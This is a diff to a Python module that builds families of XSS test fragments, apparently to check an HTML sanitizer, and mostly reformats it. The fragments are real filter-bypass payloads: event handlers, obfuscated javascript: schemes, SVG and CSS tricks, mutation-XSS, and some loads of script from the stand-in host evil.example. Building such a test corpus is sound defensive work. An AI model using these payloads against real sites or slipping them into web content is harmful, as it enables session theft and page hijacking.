@@ -1,16 +1,30 @@
 """Hostile fragments by families. Each calls `pwned()` if a browser runs anything of it."""
 
+# ruff: noqa: E501 - a fragment is a line
+
 from collections.abc import Iterator
 from itertools import product
 
+from body.judge import words
+
 RUN = "pwned()"
-HANDLERS = """onclick onload onerror onmouseover onmouseenter onfocus onfocusin onblur onanimationstart
-onanimationend ontransitionend onpointerenter onpointerrawupdate ontoggle onbeforetoggle onscroll
-onscrollend onwheel onkeydown oninput onsubmit onbeforeinput onauxclick oncopy oncut onpaste ondrag
-onpageshow onhashchange onmessage onresize onplay oncanplay onloadstart onbegin onend onrepeat
-onsecuritypolicyviolation onslotchange oncontentvisibilityautostatechange onfinish onstart
-onbounce onreadystatechange onpropertychange""".split()
-CARRIERS = ("<b {}>text</b>", "<img src=x {}>", "<video src=x {}></video>", "<details open {}>text</details>")
+HANDLERS = words(
+    """
+    onclick onload onerror onmouseover onmouseenter onfocus onfocusin onblur onanimationstart
+    onanimationend ontransitionend onpointerenter onpointerrawupdate ontoggle onbeforetoggle
+    onscroll onscrollend onwheel onkeydown oninput onsubmit onbeforeinput onauxclick oncopy
+    oncut onpaste ondrag onpageshow onhashchange onmessage onresize onplay oncanplay
+    onloadstart onbegin onend onrepeat onsecuritypolicyviolation onslotchange
+    oncontentvisibilityautostatechange onfinish onstart onbounce onreadystatechange
+    onpropertychange
+    """
+)
+CARRIERS = (
+    "<b {}>text</b>",
+    "<img src=x {}>",
+    "<video src=x {}></video>",
+    "<details open {}>text</details>",
+)
 
 
 def handlers() -> Iterator[str]:
@@ -42,9 +56,19 @@ def handlers() -> Iterator[str]:
 
 
 def scripts() -> Iterator[str]:
-    for opening in ("<script>", "<SCRIPT>", "<script >", "<script/x>", "<script\n>", "<script type=module>",
-                    "<script src=data:,pwned()>", "<script src=//evil.example/x.js>", "<script async defer>",
-                    "<script language=javascript>", "<script type=text/javascript;version=1.8>"):
+    for opening in (
+        "<script>",
+        "<SCRIPT>",
+        "<script >",
+        "<script/x>",
+        "<script\n>",
+        "<script type=module>",
+        "<script src=data:,pwned()>",
+        "<script src=//evil.example/x.js>",
+        "<script async defer>",
+        "<script language=javascript>",
+        "<script type=text/javascript;version=1.8>",
+    ):
         yield f"{opening}{RUN}</script>"
     yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
     yield f"<<script>{RUN}//<</script>"
@@ -77,23 +101,79 @@ def scripts() -> Iterator[str]:
     yield f"<script type='math/tex'></code><img src=x onerror={RUN}></script>"
 
 
-SCHEMES = ("javascript:", "JaVaScRiPt:", " javascript:", "\x01javascript:", "java\nscript:", "java\tscript:",
-           "java\rscript:", "javascript\n:", "&#106;avascript:", "&#x6a;avascript:", "&#0000106avascript:",
-           "javascript&colon;", "javascript&#58;", "java&Tab;script:", "java&NewLine;script:",
-           "\u00a0javascript:", "\u2028javascript:", "&amp;#106;avascript:", "java\u00adscript:",
-           "java\u200bscript:", "\ufeffjavascript:", "vbscript:", "livescript:", "data:text/html,", "blob:",
-           "filesystem:", "view-source:javascript:", "jar:javascript:", "feed:javascript:", "mhtml:", "file:///")
-PLACES = ("<a href='{}'>text</a>", "<img src='{}'>", "<area href='{}' shape=default>", "<blockquote cite='{}'>text</blockquote>",
-          "<video poster='{}' src=x></video>", "<video src='{}'></video>", "<audio><source src='{}'></audio>",
-          "<img srcset='{} 1x' src=x>", "<q cite='{}'>text</q>", "<track src='{}'>", "<input type=image src='{}'>",
-          "<img src=x longdesc='{}'>", "<body background='{}'>", "<table background='{}'><td>text</table>",
-          "<img src=x lowsrc='{}' dynsrc='{}'>", "<del cite='{}'>text</del>", "<a ping='{}' href=x>text</a>",
-          "<link rel=stylesheet href='{}'>", "<base href='{}'><a href=x>text</a>", "<form action='{}'><button>text</button></form>",
-          "<button formaction='{}'>text</button>", "<iframe src='{}'></iframe>", "<embed src='{}'>", "<object data='{}'></object>",
-          "<applet code='{}'></applet>", "<portal src='{}'></portal>", "<frame src='{}'>", "<img data-src='{}'>",
-          "<iframe data-src='{}'></iframe>", "<picture><source srcset='{}'><img></picture>", "<a xlink:href='{}'>text</a>",
-          "<svg><a href='{}'><text>text</text></a></svg>", "<math href='{}'><mi>x</mi></math>", "<command icon='{}'>",
-          "<html manifest='{}'>", "<isindex action='{}'>", "<noscript><img src='{}'></noscript>", "<img usemap='{}' src=x>")
+SCHEMES = (
+    "javascript:",
+    "JaVaScRiPt:",
+    " javascript:",
+    "\x01javascript:",
+    "java\nscript:",
+    "java\tscript:",
+    "java\rscript:",
+    "javascript\n:",
+    "&#106;avascript:",
+    "&#x6a;avascript:",
+    "&#0000106avascript:",
+    "javascript&colon;",
+    "javascript&#58;",
+    "java&Tab;script:",
+    "java&NewLine;script:",
+    "\u00a0javascript:",
+    "\u2028javascript:",
+    "&amp;#106;avascript:",
+    "java\u00adscript:",
+    "java\u200bscript:",
+    "\ufeffjavascript:",
+    "vbscript:",
+    "livescript:",
+    "data:text/html,",
+    "blob:",
+    "filesystem:",
+    "view-source:javascript:",
+    "jar:javascript:",
+    "feed:javascript:",
+    "mhtml:",
+    "file:///",
+)
+PLACES = (
+    "<a href='{}'>text</a>",
+    "<img src='{}'>",
+    "<area href='{}' shape=default>",
+    "<blockquote cite='{}'>text</blockquote>",
+    "<video poster='{}' src=x></video>",
+    "<video src='{}'></video>",
+    "<audio><source src='{}'></audio>",
+    "<img srcset='{} 1x' src=x>",
+    "<q cite='{}'>text</q>",
+    "<track src='{}'>",
+    "<input type=image src='{}'>",
+    "<img src=x longdesc='{}'>",
+    "<body background='{}'>",
+    "<table background='{}'><td>text</table>",
+    "<img src=x lowsrc='{}' dynsrc='{}'>",
+    "<del cite='{}'>text</del>",
+    "<a ping='{}' href=x>text</a>",
+    "<link rel=stylesheet href='{}'>",
+    "<base href='{}'><a href=x>text</a>",
+    "<form action='{}'><button>text</button></form>",
+    "<button formaction='{}'>text</button>",
+    "<iframe src='{}'></iframe>",
+    "<embed src='{}'>",
+    "<object data='{}'></object>",
+    "<applet code='{}'></applet>",
+    "<portal src='{}'></portal>",
+    "<frame src='{}'>",
+    "<img data-src='{}'>",
+    "<iframe data-src='{}'></iframe>",
+    "<picture><source srcset='{}'><img></picture>",
+    "<a xlink:href='{}'>text</a>",
+    "<svg><a href='{}'><text>text</text></a></svg>",
+    "<math href='{}'><mi>x</mi></math>",
+    "<command icon='{}'>",
+    "<html manifest='{}'>",
+    "<isindex action='{}'>",
+    "<noscript><img src='{}'></noscript>",
+    "<img usemap='{}' src=x>",
+)
 
 
 def addresses() -> Iterator[str]:
@@ -103,26 +183,44 @@ def addresses() -> Iterator[str]:
         for step in (0, 7, 13):
             scheme = SCHEMES[(number + step) % len(SCHEMES)]
             yield place.replace("{}", f"{scheme}{RUN}")
-    for kind in ("text/html", "image/svg+xml", "text/xml", "application/xhtml+xml", "text/javascript", "", "image/png,<script>"):
+    for kind in (
+        "text/html",
+        "image/svg+xml",
+        "text/xml",
+        "application/xhtml+xml",
+        "text/javascript",
+        "",
+        "image/png,<script>",
+    ):
         for place in PLACES[:3]:
             yield place.replace("{}", f"data:{kind},<script>{RUN}</script>".replace("'", ""))
-    yield f"<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQoKT4='>"
-    yield f"<a href='data:image/png;base64,iVBORw0KGgo='>text</a>"
+    yield "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQoKT4='>"
+    yield "<a href='data:image/png;base64,iVBORw0KGgo='>text</a>"
     yield "<a href='\\\\evil.example\\x'>text</a>"
     yield "<a href='http://[::1' onclick=pwned()>text</a>"
     yield "<a href='//\u202ejavascript:'>text</a>"
 
 
 def drawings() -> Iterator[str]:
-    for inner in (f"<script>{RUN}</script>", f"<script href=data:,{RUN} />", f"<style>@import 'x'</style>",
-                  f"<a href=javascript:{RUN}><text>text</text></a>", f"<a xlink:href=javascript:{RUN}><text>text</text></a>",
-                  f"<animate attributeName=href values=javascript:{RUN} />", f"<set attributeName=onmouseover to={RUN} />",
-                  f"<animate onbegin={RUN} attributeName=x dur=1s>", f"<use href='data:image/svg+xml,<svg id=x onload={RUN}>#x' />",
-                  f"<image href=x onerror={RUN} />", f"<foreignObject><img src=x onerror={RUN}></foreignObject>",
-                  f"<foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject>",
-                  f"<title><img src=x onerror={RUN}></title>", f"<desc><script>{RUN}</script></desc>",
-                  f"<handler type=text/javascript ev:event=load>{RUN}</handler>", f"<discard onbegin={RUN}>",
-                  f"<text><![CDATA[</text><img src=x onerror={RUN}>]]></text>"):
+    for inner in (
+        f"<script>{RUN}</script>",
+        f"<script href=data:,{RUN} />",
+        "<style>@import 'x'</style>",
+        f"<a href=javascript:{RUN}><text>text</text></a>",
+        f"<a xlink:href=javascript:{RUN}><text>text</text></a>",
+        f"<animate attributeName=href values=javascript:{RUN} />",
+        f"<set attributeName=onmouseover to={RUN} />",
+        f"<animate onbegin={RUN} attributeName=x dur=1s>",
+        f"<use href='data:image/svg+xml,<svg id=x onload={RUN}>#x' />",
+        f"<image href=x onerror={RUN} />",
+        f"<foreignObject><img src=x onerror={RUN}></foreignObject>",
+        f"<foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject>",
+        f"<title><img src=x onerror={RUN}></title>",
+        f"<desc><script>{RUN}</script></desc>",
+        f"<handler type=text/javascript ev:event=load>{RUN}</handler>",
+        f"<discard onbegin={RUN}>",
+        f"<text><![CDATA[</text><img src=x onerror={RUN}>]]></text>",
+    ):
         yield f"<svg>{inner}</svg>"
     yield f"<svg onload={RUN}>"
     yield f"<svg/onload={RUN}><p>text"
@@ -175,7 +273,7 @@ def mutations() -> Iterator[str]:
     yield f"<svg><annotation-xml><foreignobject><style><!--</style><p id='--!&gt;&lt;img src=x onerror={RUN}&gt;'>"
     yield f"<math><annotation-xml encoding='text/html'><style><a title='</style><img src=x onerror={RUN}>'></annotation-xml></math>"
     yield f"<style><img title='</style><img src=x onerror={RUN}>'></style>"
-    yield f"<b>" * 40 + f"<img src=x onerror={RUN}>"
+    yield "<b>" * 40 + f"<img src=x onerror={RUN}>"
     yield f"<a><table><a href=javascript:{RUN}>text</table>"
     yield f"<image src=x onerror={RUN}>"
     yield f"<im\x00g src=x onerror={RUN}><im&#x00;g src=x onerror={RUN}>"
@@ -198,11 +296,11 @@ def pages() -> Iterator[str]:
     yield "<form id=x></form><button form=x formaction=//evil.example/>text</button>"
     yield "<input type=hidden name=x value=y><select name=z><option>text</select>"
     yield f"<isindex type=image src=1 onerror={RUN}>"
-    yield f"<object type=text/x-scriptlet data=//evil.example/></object>"
+    yield "<object type=text/x-scriptlet data=//evil.example/></object>"
     yield f"<object><param name=movie value=javascript:{RUN}><p>text</object>"
-    yield f"<object classid=clsid:1><param name=url value=//evil.example/x.swf></object>"
-    yield f"<embed src=//evil.example/x.swf allowscriptaccess=always>"
-    yield f"<embed code=//evil.example/x>"
+    yield "<object classid=clsid:1><param name=url value=//evil.example/x.swf></object>"
+    yield "<embed src=//evil.example/x.swf allowscriptaccess=always>"
+    yield "<embed code=//evil.example/x>"
     yield f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>"
     yield f"<iframe srcdoc='&lt;img src=x onerror=parent.{RUN}&gt;' src=about:blank></iframe>"
     yield f"<iframe srcdoc='<a href=javascript:{RUN}>text</a>'></iframe>"
@@ -216,18 +314,28 @@ def pages() -> Iterator[str]:
     yield "<frameset><frame src=//evil.example/></frameset>"
     yield f"<portal src=javascript:{RUN}></portal><fencedframe src=//evil.example/></fencedframe>"
     yield f"<dialog open onclose={RUN}>text</dialog>"
-    yield f"<img src=x name=getElementById><img src=x id=createElement>"
+    yield "<img src=x name=getElementById><img src=x id=createElement>"
     yield f"<bgsound src=javascript:{RUN}>"
-    yield f"<layer src=//evil.example/></layer><ilayer src=x></ilayer>"
+    yield "<layer src=//evil.example/></layer><ilayer src=x></ilayer>"
     yield f"<xml id=x><i><![CDATA[<img src=x onerror={RUN}>]]></i></xml>"
     yield f"<?import namespace=t implementation=#default#time2><t:set onbegin={RUN}>"
 
 
 def styles() -> Iterator[str]:
-    for rule in ("background:url(javascript:pwned())", "width:expression(pwned())", "behavior:url(x.htc)",
-                 "-moz-binding:url(//evil.example/x.xml#x)", "position:fixed;top:0;left:0;width:100%;height:100%",
-                 "color:red", "background-image:url(//evil.example/track)", "\\65xpression(pwned())",
-                 "list-style:url(javascript:pwned())", "content:url(x)", "display:none", "}</style><script>pwned()</script>"):
+    for rule in (
+        "background:url(javascript:pwned())",
+        "width:expression(pwned())",
+        "behavior:url(x.htc)",
+        "-moz-binding:url(//evil.example/x.xml#x)",
+        "position:fixed;top:0;left:0;width:100%;height:100%",
+        "color:red",
+        "background-image:url(//evil.example/track)",
+        "\\65xpression(pwned())",
+        "list-style:url(javascript:pwned())",
+        "content:url(x)",
+        "display:none",
+        "}</style><script>pwned()</script>",
+    ):
         yield f'<p style="{rule}">text</p>'
     yield "<style>*{background:url(//evil.example/)}</style>"
     yield "<style>@import '//evil.example/x.css';</style>"
@@ -238,17 +346,26 @@ def styles() -> Iterator[str]:
 
 
 def widgets() -> Iterator[str]:
-    for facts in ('{"url":"javascript:pwned()","title":"t"}', '{"title":"<img src=x onerror=pwned()>","url":"https://x.example/"}',
-                  '{"url":"data:text/html,<script>pwned()</script>"}', '{"targetUrl":"vbscript:pwned()"}',
-                  '{"image":"javascript:pwned()","url":"https://x.example/"}', '{"videoId":"\\"><script>pwned()</script>"}',
-                  '{"title"-"<svg onload=pwned()>","url":"https://x.example/"}', '{"audio_url":"javascript:pwned()"}',
-                  '{"gallery":{"images":[{"src":"javascript:pwned()"}],"caption":"<script>pwned()</script>"}}', '[[[[', '{}', 'null'):
+    for facts in (
+        '{"url":"javascript:pwned()","title":"t"}',
+        '{"title":"<img src=x onerror=pwned()>","url":"https://x.example/"}',
+        '{"url":"data:text/html,<script>pwned()</script>"}',
+        '{"targetUrl":"vbscript:pwned()"}',
+        '{"image":"javascript:pwned()","url":"https://x.example/"}',
+        '{"videoId":"\\"><script>pwned()</script>"}',
+        '{"title"-"<svg onload=pwned()>","url":"https://x.example/"}',
+        '{"audio_url":"javascript:pwned()"}',
+        '{"gallery":{"images":[{"src":"javascript:pwned()"}],"caption":"<script>pwned()</script>"}}',
+        "[[[[",
+        "{}",
+        "null",
+    ):
         attrs = facts.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
         yield f'<div class="youtube-wrap" data-attrs="{attrs}"></div>'
         yield f'<div class="image-gallery-embed" data-attrs="{attrs}"></div>'
         yield f'<iframe data-attrs="{attrs}"></iframe>'
     yield f"<blockquote class=twitter-tweet cite=javascript:{RUN}><p>text</p><script>{RUN}</script></blockquote>"
-    yield f"<blockquote class=instagram-media data-instgrm-permalink=\"https://x.example/'onclick={RUN}\">text</blockquote>"
+    yield f'<blockquote class=instagram-media data-instgrm-permalink="https://x.example/\'onclick={RUN}">text</blockquote>'
     yield f"<lite-youtube videoid='\"><script>{RUN}</script>'></lite-youtube>"
     yield f"<lite-youtube videoid=abcdefghijk playlabel='<script>{RUN}</script>'></lite-youtube>"
     yield f"<script src='https://gist.github.com/x/1.js\"><img src=x onerror={RUN}>'></script>"
@@ -272,5 +389,8 @@ FAMILIES = (handlers, scripts, addresses, drawings, formulas, mutations, pages, 
 
 def fragments() -> list[tuple[str, str]]:
     """Return every fragment with the name of its family and its number there."""
-    return [(f"{family.__name__} {number}", text)
-            for family in FAMILIES for number, text in enumerate(family())]
+    return [
+        (f"{family.__name__} {number}", text)
+        for family in FAMILIES
+        for number, text in enumerate(family())
+    ]
